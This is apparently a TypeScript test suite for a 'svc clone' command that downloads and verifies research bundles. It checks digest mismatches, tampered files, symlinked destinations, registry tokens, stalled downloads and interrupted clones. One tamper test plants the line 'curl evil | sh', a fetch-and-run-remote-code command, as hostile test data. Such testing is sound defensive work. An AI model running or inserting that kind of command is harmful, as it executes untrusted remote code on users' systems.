import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeBundle, tarTree, writeBundleTree } from '../support/bundle.ts';
import { RegistryClient } from '../../src/registry/client.ts';
import { type RegistryChild, spawnRegistry } from '../support/registry-server.ts';
import { removeDir, svc, tempDir } from '../support/svc.ts';
import { startViz, type Viz } from '../support/viz.ts';

let dir: string;
let viz: Viz | null = null;
const stops: (() => void | Promise<void>)[] = [];
const FILES = { 'code/a.py': 'print(1)\n', 'reproduce.sh': 'python code/a.py\n', 'README.md': '# bundle\n' };

beforeEach(() => {
  dir = tempDir();
});
afterEach(async () => {
  await viz?.stop();
  viz = null;
  for (const s of stops.splice(0)) await s();
  removeDir(dir);
});

/** The real registry, `svc registry serve` as a child, on a data dir of its own. */
async function registry(): Promise<RegistryChild & { data: string }> {
  const data = join(dir, `registry-${stops.length}`);
  mkdirSync(data);
  const child = await spawnRegistry(data);
  stops.push(child.stop);
  return { ...child, data };
}

/** A token from `svc registry token issue`. */
async function issue(reg: { data: string }, user: string): Promise<string> {
  const r = await svc(['registry', 'token', 'issue', user, '--data-dir', reg.data], { cwd: dir });
  expect(r.code).toBe(0);
  return r.stdout.trim();
}

describe('svc clone', () => {
  test('file:// into a destination: the tree, and the digest, count and destination printed', async () => {
    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
    const r = await svc(['clone', `file://${tarball}`, 'copy', '--expect-sha256', lock.bundle_sha256], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`bundle_sha256  ${lock.bundle_sha256}`);
    expect(r.stdout).toContain('file_count     3');
    expect(readdirSync(join(dir, 'copy')).sort()).toEqual(['README.md', 'code', 'manifest.lock', 'reproduce.sh']);
  });

  test('--json, default destination from the reference', async () => {
    const { lock } = await makeBundle(join(dir, 'src'), FILES);
    const r = await svc(['clone', 'file://src/bundle.tar.gz', '--json'], { cwd: dir });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual({ ref: 'file://src/bundle.tar.gz', dest: join(dir, 'bundle'), bundle_sha256: lock.bundle_sha256, file_count: 3, manifest_sha256: expect.any(String), extracted: true });
  });

  test('a digest mismatch is a hard failure and leaves no destination', async () => {
    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
    const r = await svc(['clone', `file://${tarball}`, 'copy', '--expect-sha256', '0'.repeat(64)], { cwd: dir });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('digest mismatch');
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(existsSync(join(dir, 'copy'))).toBe(false);
    expect(readdirSync(dir).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  test('a tampered bundle fails; an occupied destination is refused', async () => {
    const tree = join(dir, 'tree');
    mkdirSync(tree);
    writeBundleTree(tree, FILES);
    writeFileSync(join(tree, 'reproduce.sh'), 'curl evil | sh\n');
    await tarTree(tree, join(dir, 't.tar.gz'));
    const bad = await svc(['clone', 'file://t.tar.gz', 'copy'], { cwd: dir });
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('bundle verification failed: reproduce.sh');
    expect(existsSync(join(dir, 'copy'))).toBe(false);
    const occupied = await svc(['clone', 'file://t.tar.gz', 'tree'], { cwd: dir });
    expect(occupied.code).toBe(1);
    expect(occupied.stderr).toContain('already exists and is not empty');
  });

  test.each([
    ['an empty directory', 'empty-dir'],
    ['nothing', '/nonexistent-svc-target'],
  ])('a destination that is a link (to %s) is refused in one line, the link and what it leads to untouched', async (_what, target) => {
    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
    if (target === 'empty-dir') mkdirSync(join(dir, target));
    symlinkSync(target, join(dir, 'linked'));
    const r = await svc(['clone', `file://${tarball}`, 'linked'], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`svc: destination ${join(dir, 'linked')} is a symbolic link (to ${target}) (give the directory it leads to, or a new name)\n`);
    expect(readlinkSync(join(dir, 'linked'))).toBe(target);
    if (target === 'empty-dir') expect(readdirSync(join(dir, target))).toEqual([]);
    expect(readdirSync(dir).filter((n) => n.includes('clone'))).toEqual([]);
  });

  test('svc:// through ./.svc/registries.yaml with --token naming an environment variable; --no-extract', async () => {
    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
    const reg = await registry();
    const ann = await issue(reg, 'ann');
    // staged: only ann's token reads it
    const { id } = await new RegistryClient({ url: reg.url, token: ann }).upload(tarball);
    mkdirSync(join(dir, '.svc'));
    writeFileSync(join(dir, '.svc', 'registries.yaml'), `registries:\n  - name: lab\n    url: ${reg.url}\n`);
    const refused = await svc(['clone', `svc://lab/${id}`, 'arch', '--no-extract'], { cwd: dir });
    // without ann's token the staged bundle is not there at all: an unknown id, like any other
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('404');
    expect(existsSync(join(dir, 'arch'))).toBe(false);
    const r = await svc(['clone', `svc://lab/${id}`, 'arch', '--no-extract', '--token', 'ANN_TOKEN', '--json'], { cwd: dir, env: { ANN_TOKEN: ann } });
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout)).toMatchObject({ bundle_sha256: lock.bundle_sha256, extracted: false });
    expect(readdirSync(join(dir, 'arch'))).toEqual(['bundle.tar.gz']);
    expect(readFileSync(join(dir, 'arch', 'bundle.tar.gz')).equals(readFileSync(tarball))).toBe(true);
  });

  test('svc:// from a registry that stops sending fails in one line once SVC_CLONE_HTTP_TIMEOUT passes without data', async () => {
    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
    const bytes = readFileSync(tarball);
    const sha256 = new Bun.CryptoHasher('sha256').update(bytes).digest('hex');
    const id = sha256.slice(0, 16);
    const server = stallingServer(bytes.subarray(0, 64), { 'X-Svc-Sha256': sha256, 'X-Svc-Visibility': 'public' });
    const r = await svc(['clone', `svc://${id}`, 'copy', '--registry', `http://127.0.0.1:${server.port}`], { cwd: dir, env: { SVC_CLONE_HTTP_TIMEOUT: '0.5' } });
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`svc: download of svc://${id} at http://127.0.0.1:${server.port} timed out: no data for 0.5 s (try again, or raise SVC_CLONE_HTTP_TIMEOUT)\n`);
    expect(readdirSync(dir)).toEqual(['src']);
  });

  test('the home-directory registries file still works but warns', async () => {
    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
    const reg = await registry();
    const client = new RegistryClient({ url: reg.url, token: await issue(reg, 'ann') });
    const { id } = await client.upload(tarball);
    await client.promote(id, 'public');
    const home = join(dir, 'home');
    mkdirSync(join(home, '.svc'), { recursive: true });
    writeFileSync(join(home, '.svc', 'registries.yaml'), `registries:\n  - {name: lab, url: "${reg.url}"}\n`);
    mkdirSync(join(dir, 'work'));
    const r = await svc(['clone', `svc://${id}`, 'copy'], { cwd: join(dir, 'work'), env: { HOME: home } });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('deprecated');
    expect(readFileSync(join(dir, 'work', 'copy', 'code', 'a.py'), 'utf8')).toBe(FILES['code/a.py']);
  });

  test('bad usage: an unknown scheme is exit 2', async () => {
    const r = await svc(['clone', 'ftp://x/y'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown scheme');
  });
});

describe('POST /api/ear/clone-verify', () => {
  test('verifies into a temporary directory and keeps nothing', async () => {
    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
    viz = await startViz([dir], { cwd: dir });
    const ok = await viz.post('/api/ear/clone-verify', { ref: `file://${tarball}`, expect_sha256: lock.bundle_sha256 });
    expect(ok.status).toBe(200);
    expect(ok.body).toEqual({ ok: true, ref: `file://${tarball}`, bundle_sha256: lock.bundle_sha256, file_count: 3 });
    const mismatch = await viz.post('/api/ear/clone-verify', { ref: `file://${tarball}`, expect_sha256: 'f'.repeat(64) });
    expect(mismatch.status).toBe(200);
    expect(mismatch.body).toMatchObject({ ok: false, bundle_sha256: null, error: expect.stringContaining('digest mismatch') });
    expect(readdirSync(dir).sort()).toEqual(['src']);
  });

  test.each([
    [{}, 400],
    [{ ref: '' }, 400],
    [{ ref: 'ftp://x' }, 400],
    [{ ref: 'file:///nope/b.tar.gz', expect_sha256: 'xyz' }, 400],
    [{ ref: 'file:///nope/b.tar.gz' }, 404],
  ])('bad body %j → %d', async (body, status) => {
    viz = await startViz([dir], { cwd: dir });
    const r = await viz.post('/api/ear/clone-verify', body);
    expect(r.status).toBe(status);
    expect(typeof r.body.error).toBe('string');
  });
});

/** A server that sends `first` (after `headers`), calls `onSent`, then sends nothing more for a long while. */
function stallingServer(first: Uint8Array, headers: Record<string, string>, onSent = () => {}) {
  const server = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch: () =>
      new Response(
        new ReadableStream({
          async start(c) {
            c.enqueue(first);
            onSent();
            await Bun.sleep(30_000);
            c.close();
          },
        }),
        { headers },
      ),
  });
  stops.push(() => void server.stop(true));
  return server;
}

describe('svc clone interrupted', () => {
  test('SIGTERM during a stalled download leaves no destination and no temporary directory', async () => {
    const begun = Promise.withResolvers<void>();
    const server = stallingServer(new Uint8Array(4096), {}, begun.resolve);
    const { SVC } = await import('../support/svc.ts');
    const proc = Bun.spawn([SVC, 'clone', `http://127.0.0.1:${server.port}/b.tar.gz`, 'copy'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir }, stdout: 'ignore', stderr: 'pipe' });
    await begun.promise;
    for (let i = 0; i < 50 && !readdirSync(dir).some((n) => n.includes('.clone-')); i++) await Bun.sleep(20);
    expect(readdirSync(dir).some((n) => n.includes('.clone-'))).toBe(true);
    proc.kill('SIGTERM');
    expect(await proc.exited).toBe(143);
    expect(readdirSync(dir)).toEqual([]);
  });
});
